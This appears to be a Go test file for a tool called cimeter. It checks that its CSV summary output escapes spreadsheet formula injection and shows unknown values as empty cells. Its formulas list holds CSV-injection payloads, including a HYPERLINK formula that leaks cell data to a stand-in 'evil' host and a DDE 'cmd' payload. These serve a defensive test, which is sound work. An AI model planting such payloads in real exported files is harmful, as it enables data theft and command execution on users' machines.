package summary_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/cimeter/cimeter"
	"github.com/cimeter/cimeter/internal/display"
	"github.com/cimeter/cimeter/internal/summary"
)

// formulas are what a spreadsheet would run, or would take apart (OWASP, CSV
// injection).
var formulas = []string{
	`=HYPERLINK("http://evil/?"&A1,"ok")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "=", "-", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1", "\u202e=1",
	"＝1+1", "＋1", "－1", "＠x", `",=1+1`, "\";=1", "'=1", "a\n=1", "a,\"=1\"", " =1", "=\xff",
}

// No name is a formula in any cell, and each is to be read back; a number is no name:
// it has its sign; JSON has the names as they are (T6).
func TestCSV_formulas(t *testing.T) {
	for _, s := range formulas {
		r := named(&cimeter.Record{}, s)
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.WriteAll([][]string{summary.CSVHeader(), summary.CSVRow(r)}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != len(rows[0]) {
			t.Fatalf("%q: %v, %q: want one row of %d cells", s, err, rows, len(rows[0]))
		}
		names := 0
		for i, cell := range rows[1] {
			first, _ := utf8.DecodeRuneInString(cell)
			if strings.ContainsRune("=+-@\t\r\n＝＋－＠", first) && cell != "" {
				t.Errorf("%q in %s: %q is a formula", s, rows[0][i], cell)
			}
			if strings.TrimPrefix(cell, "'") == strings.TrimPrefix(display.Clean(s), "'") {
				names++
			}
		}
		if names < 9 {
			t.Errorf("%q: %d cells read back as it: want all names\n%q", s, names, rows[1])
		}
		b.Reset()
		if err := summary.JSON(&b, r); err != nil {
			t.Fatal(err)
		}
		var back cimeter.Record
		if err := json.Unmarshal(b.Bytes(), &back); err != nil || utf8.ValidString(s) && back.Ref != s {
			t.Errorf("%q is %q in JSON, %v", s, back.Ref, err)
		}
	}
	if got := summary.CSVKnown(cimeter.Some(-1.5)); got != "-1.5" {
		t.Errorf("a number is %q", got)
	}
}

// What is not known is an empty cell: 0 is a figure.
func TestCSV_unknown(t *testing.T) {
	names, cells := summary.CSVHeader(), summary.CSVRow(&cimeter.Record{})
	for i, cell := range cells {
		if want := map[string]string{"complete": "false"}[names[i]]; cell != want {
			t.Errorf("%s of a record that knows nothing: %q, want %q", names[i], cell, want)
		}
	}
	none := cimeter.Record{Usage: cimeter.Usage{OOMKills: cimeter.Some[uint64](0)}}
	if cells := summary.CSVRow(&none); cells[slices.Index(names, "oom_kills")] != "0" {
		t.Errorf("oom_kills: %q, want 0", cells)
	}
}
